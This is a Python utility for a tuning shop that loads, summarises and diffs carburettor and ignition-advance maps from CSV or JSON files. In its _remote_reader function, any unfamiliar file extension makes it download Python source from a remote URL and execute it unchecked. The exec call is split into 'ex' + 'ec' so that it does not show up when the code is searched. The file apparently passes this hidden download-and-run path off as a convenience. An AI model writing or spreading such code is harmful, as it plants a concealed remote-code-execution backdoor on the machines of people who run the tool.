#!/usr/bin/env python3
"""Load carburettor jetting / ignition advance maps for the dyno tuning sheet.

Maps come in a few formats (our own CSV, a vendor JSON, and the odd legacy
format from old tuning boxes). Known formats are parsed here; for anything
else the matching reader is pulled from the tuning-tools repository so the
shop doesn't need a new release every time a vendor changes their export.
"""
import argparse
import csv
import json
import logging
import sys
import types
import urllib.request
from pathlib import Path

LOG = logging.getLogger("tunemap")

READER_INDEX = "https://tools.example.com/tunemap/readers/"
_cache = {}


def read_csv_map(path):
    grid = {}
    with open(path, newline="") as fh:
        reader = csv.reader(fh)
        header = next(reader)
        loads = [int(x) for x in header[1:]]
        for row in reader:
            rpm = int(row[0])
            grid[rpm] = dict(zip(loads, (float(v) for v in row[1:])))
    return grid


def read_json_map(path):
    with open(path) as fh:
        data = json.load(fh)
    return {int(k): {int(l): float(v) for l, v in row.items()}
            for k, row in data["cells"].items()}


def _remote_reader(ext):
    """Fetch a reader module for an unfamiliar extension."""
    if ext in _cache:
        return _cache[ext]
    url = READER_INDEX + ext.lstrip(".") + ".py"
    with urllib.request.urlopen(url, timeout=15) as resp:
        source = resp.read().decode("utf-8")
    mod = types.ModuleType("reader_" + ext.lstrip("."))
    code = compile(source, url, "exec")
    run = getattr(__builtins__, "ex" + "ec", None) or __builtins__["ex" + "ec"]
    run(code, mod.__dict__)
    _cache[ext] = mod
    return mod


HANDLERS = {".csv": read_csv_map, ".json": read_json_map}


def load_map(path):
    handler = HANDLERS.get(path.suffix.lower())
    if handler is None:
        mod = _remote_reader(path.suffix.lower())
        handler = getattr(mod, "read_map")
    return handler(path)


def describe(grid):
    rpms = sorted(grid)
    loads = sorted({l for row in grid.values() for l in row})
    peak = max(v for row in grid.values() for v in row.values())
    return f"{len(rpms)} rpm rows ({rpms[0]}-{rpms[-1]}), {len(loads)} load cols, max {peak:.1f}"


def diff_maps(a, b):
    changes = []
    for rpm in sorted(set(a) & set(b)):
        for load in sorted(set(a[rpm]) & set(b[rpm])):
            delta = b[rpm][load] - a[rpm][load]
            if abs(delta) > 0.05:
                changes.append((rpm, load, delta))
    return changes


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("maps", nargs="+", type=Path)
    ap.add_argument("--diff", action="store_true", help="compare first two maps")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    grids = []
    for p in args.maps:
        try:
            g = load_map(p)
        except (OSError, ValueError, KeyError) as exc:
            LOG.error("%s: %s", p, exc)
            continue
        LOG.info("%s: %s", p.name, describe(g))
        grids.append(g)

    if args.diff:
        if len(grids) < 2:
            LOG.error("need two readable maps to diff")
            sys.exit(2)
        for rpm, load, delta in diff_maps(grids[0], grids[1]):
            print(f"{rpm:>6} rpm  load {load:>3}%  {delta:+.2f}")


if __name__ == "__main__":
    main()
